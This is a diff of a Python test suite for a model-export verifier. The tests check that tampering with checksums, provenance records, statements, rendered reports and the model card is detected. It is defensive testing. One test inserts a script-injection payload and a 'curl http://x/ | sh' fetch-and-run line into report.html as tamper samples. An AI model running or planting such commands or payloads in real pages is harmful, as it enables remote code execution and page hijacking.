@@ -8,7 +8,9 @@ import onnx
 import pytest
 import tiny
 import torch
+from report import samples
 
+from clipclean import report
 from clipclean.errors import RefusedInput, UsageError
 from clipclean.export import (
     checksums,
@@ -20,10 +22,12 @@ from clipclean.export import (
     onnx_presets,
     open_clip_directory,
     parity,
+    records,
 )
 from clipclean.jobs import export as export_job
 from clipclean.jobs import verify
 
+PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
 WEIGHTS, HF, GRAPH = "open_clip_model.safetensors", "model.safetensors", "onnx/vision_model.onnx"
 SUMS, RECORD, STATEMENT, BOM = "SHA256SUMS", "provenance.json", "provenance.intoto.json", "bom.cdx.json"
 
@@ -95,13 +99,17 @@ def spoil(path, place=-1):
 def test_a_whole_folder_passes_every_check(folder):
     result = check(folder)
     assert (result.exit_code, result.findings) == (0, [])
-    assert list(result.checked) == ["checksums", "provenance", "statement", "weights", "bill of materials"]
+    assert list(result.checked) == ["checksums", "provenance", "statement", "weights", "bill of materials", "rendered"]
+    assert result.checked["rendered"] == "README.md"
     assert result.checked["weights"] == f"{WEIGHTS}, {HF}, {GRAPH}, onnx/text_model.onnx"
     assert result.notes == ["not signed; checksums show that a folder is whole, not who made it"]
 
 
 def test_a_bill_of_materials_is_no_must(folder):
     (folder / BOM).unlink()
+    found = json.loads((folder / STATEMENT).read_text())
+    found["subject"] = [entry for entry in found["subject"] if entry["name"] != BOM]
+    (folder / STATEMENT).write_text(json.dumps(found))
     resum(folder)
     assert check(folder).exit_code == 0
 
@@ -125,7 +133,10 @@ def test_a_file_that_nobody_vouches_for_is_found(folder, name):
     (folder / name).write_bytes(b"x")
     assert f"{name}: checksums: is not listed in SHA256SUMS: nobody vouches for it" in told(check(folder))
     resum(folder)
-    assert told(check(folder)) == [f"{name}: provenance: is not among the outputs that provenance.json names"]
+    assert told(check(folder)) == [
+        f"{name}: provenance: is not among the outputs that provenance.json names",
+        f"{STATEMENT}: statement: says nothing of {name}",
+    ]
 
 
 def test_changed_weights_are_found_though_the_checksums_fit(folder):
@@ -143,6 +154,10 @@ def lie(folder, name):
     new = checksums.digests(folder)[name]
     for record in (RECORD, BOM, STATEMENT):
         (folder / record).write_text((folder / record).read_text().replace(old, new))
+    found = json.loads((folder / STATEMENT).read_text())
+    for entry in found["subject"]:
+        entry["digest"]["sha256"] = checksums.digests(folder)[entry["name"]]
+    (folder / STATEMENT).write_text(json.dumps(found))
     edit(
         folder / STATEMENT, "predicate", "runDetails", "byproducts", 0, "digest", "sha256",
         value=checksums.digests(folder)[RECORD],
@@ -215,6 +230,7 @@ def test_a_record_that_is_no_json_is_unreadable(folder, name, text):
         (RECORD, ["exports", 0, "sha256"], "0" * 64, f"tells two digests of {WEIGHTS}"),
         (RECORD, ["exports", 0, "tensor_sha256"], "0" * 64, f"{WEIGHTS}: weights: its tensors have the digest "),
         (RECORD, ["exports"], [], "names no weights"),
+        (RECORD, ["exports", 0, "parity"], {}, "README.md: rendered: cannot be made of provenance.json"),
         (RECORD, ["input", "sha256"], "0" * 64, f"{STATEMENT}: statement: the digest of the model"),
         (STATEMENT, ["_type"], "x", "_type is 'x' and should be"),
         (STATEMENT, ["predicateType"], "x", "predicateType is 'x' and should be"),
@@ -251,9 +267,13 @@ def test_a_list_that_is_none_is_refused(folder, text):
 
 def test_what_has_no_list_is_refused(folder, tmp_path):
     (folder / SUMS).unlink()
-    for place in (folder, folder / WEIGHTS, tmp_path / "nowhere"):
-        with pytest.raises(RefusedInput, match=r"no SHA256SUMS|is no folder"):
+    name = "Name the folder that sanitize or export wrote."
+    for place, why in ((folder / WEIGHTS, f"is no folder. {name}"), (tmp_path / "nowhere", f"does not exist. {name}")):
+        with pytest.raises(RefusedInput) as caught:
             check(place)
+        assert str(caught.value) == f"{place} {why}"
+    with pytest.raises(RefusedInput, match=r"has no SHA256SUMS: nothing says what should be in it"):
+        check(folder)
 
 
 def test_links_and_pipes_are_found_and_not_followed_or_opened(folder, tmp_path):
@@ -273,6 +293,125 @@ def test_hidden_files_are_left_out_and_said(folder):
     result = check(folder)
     assert result.exit_code == 0
     assert result.notes[0] == "2 hidden file(s) or folder(s) were not looked at"
+
+
+# Sanitized folders, whose reports are made once more.
+
+
+@pytest.fixture(scope="module")
+def cleaned(exported, tmp_path_factory):
+    """What ``sanitize`` would leave of these weights; its report is one worked by hand."""
+    folder = shutil.copytree(exported, tmp_path_factory.mktemp("cleaned") / "folder")
+    written = json.loads((folder / RECORD).read_text())
+    for name in (RECORD, STATEMENT, BOM, SUMS, "README.md"):
+        (folder / name).unlink()
+    outputs = checksums.digests(folder)
+    made = report.parse(
+        samples.passed() | {key: written[key] for key in ("exports", "data", "environment")}
+        | {"model": samples.passed()["model"] | written["input"], "tool": written["tool"], "suppressed": []}
+    )  # fmt: skip
+    picture = {"title": "An image", "caption": "with a trigger", "alt": "a square", "png_base64": PIXEL}
+    report.write(made, "json", folder / "report.json")
+    place = report.Place("/home/ann/cleaned", "m.pt", "clean", "auto")
+    report.write(made, "html", folder / "report.html", report.Images((picture,)), place)
+    records.write(folder, made.as_json(), outputs=outputs, has_bom=False)
+    return folder
+
+
+@pytest.fixture
+def sanitized(cleaned, tmp_path):
+    return shutil.copytree(cleaned, tmp_path / "folder")
+
+
+def restate(folder):
+    """Digests that fit in the statement and the checksums, as somebody without a key can write them."""
+    found = json.loads((folder / STATEMENT).read_text())
+    digests = checksums.digests(folder)
+    for entry in found["subject"]:
+        entry["digest"]["sha256"] = digests[entry["name"]]
+    (folder / STATEMENT).write_text(json.dumps(found))
+    resum(folder)
+
+
+def test_a_sanitized_folder_passes_with_its_page_and_card_made_once_more(sanitized):
+    result = check(sanitized)
+    assert told(result) == []
+    assert result.checked["rendered"] == "README.md, report.html"
+
+
+def test_the_statement_speaks_of_the_reports(sanitized):
+    (sanitized / "report.html").write_text("Certified safe.")
+    resum(sanitized)
+    found = told(check(sanitized))
+    assert any(each.startswith("report.html: statement: has sha256 ") for each in found)
+    edit(sanitized / STATEMENT, "subject", value=[])
+    resum(sanitized)
+    assert f"{STATEMENT}: statement: says nothing of report.html" in told(check(sanitized))
+
+
+@pytest.mark.parametrize(
+    ("old", "new"),
+    [
+        ("<h1>", "<h1>Certified safe. "),
+        ("62.1 %", "99.9 %"),
+        ("default-src 'none'", "default-src *"),
+        ("an image</strong>", "<script>alert(1)</script></strong>"),
+        ("An image</strong>", '<a href="http://x/">An image</a></strong>'),
+        ("clipclean verify", "curl http://x/ | <b>sh</b> "),
+    ],
+)
+def test_a_page_that_does_not_follow_from_the_report_is_found(sanitized, old, new):
+    page = sanitized / "report.html"
+    changed = page.read_text().replace(old, new)
+    page.write_text(changed if changed != page.read_text() else f"{changed}{new}")
+    restate(sanitized)
+    assert told(check(sanitized)) == ["report.html: rendered: is not what report.json gives"]
+
+
+@pytest.mark.parametrize("place", ["sanitized", "folder"])
+def test_a_model_card_that_does_not_follow_from_the_records_is_found(request, place):
+    folder = request.getfixturevalue(place)
+    card = folder / "README.md"
+    card.write_text(f"{card.read_text()}\nCertified safe.\n")
+    resum(folder)
+    (finding,) = told(check(folder))
+    assert finding.startswith("README.md: rendered: is not what ")
+
+
+def test_the_owner_of_a_model_card_may_complete_its_front_matter_alone(sanitized):
+    card = sanitized / "README.md"
+    card.write_text(card.read_text().replace("---\n", "---\nlicense: mit\n", 1))
+    resum(sanitized)
+    assert told(check(sanitized)) == []
+
+
+@pytest.mark.parametrize(
+    ("keys", "value", "key"),
+    [
+        (("findings",), [], "audits"),
+        (("after", "measurements", "clean_accuracy", "value"), 0.999, "audits"),
+        (("seed",), 99, "seed"),
+        (("recipe", "name"), "auto", "recipe"),
+    ],
+)
+def test_a_report_that_tells_more_than_the_record_is_found(sanitized, keys, value, key):
+    edit(sanitized / "report.json", *keys, value=value)
+    restate(sanitized)
+    assert f"report.json: report: tells another {key} than {RECORD}" in told(check(sanitized))
+
+
+@pytest.mark.parametrize("key", ["suppressed", "data", "environment", "before"])
+def test_a_report_that_lacks_what_the_record_is_made_of_is_found(sanitized, key):
+    found = json.loads((sanitized / "report.json").read_text())
+    del found[key]
+    (sanitized / "report.json").write_text(json.dumps(found))
+    restate(sanitized)
+    assert check(sanitized).exit_code in (1, 3)
+
+
+def test_what_another_version_rendered_is_not_compared_and_that_is_said(sanitized, monkeypatch):
+    monkeypatch.setattr(verify, "__version__", "9.9")
+    assert any("they were not made once more and compared" in note for note in check(sanitized).notes)
 
 
 # Signatures: by model-signing, an extra of the package.
@@ -313,7 +452,8 @@ def test_a_signature_holds_with_its_key_alone_and_for_its_files_alone(folder, ke
     (finding,) = told(check(folder, public_key=keys / "other.pub"))
     assert finding.startswith("model.sig: signature: does not hold: ")
     # every record is made to fit, and the signature still tells
-    spoil(folder / "README.md", place=-2)
+    card = folder / "README.md"
+    card.write_text(card.read_text().replace("---\n", "---\nlicense: mit\n", 1))
     resum(folder)
     assert check(folder).exit_code == 0
     (finding,) = told(check(folder, public_key=keys / "ours.pub"))
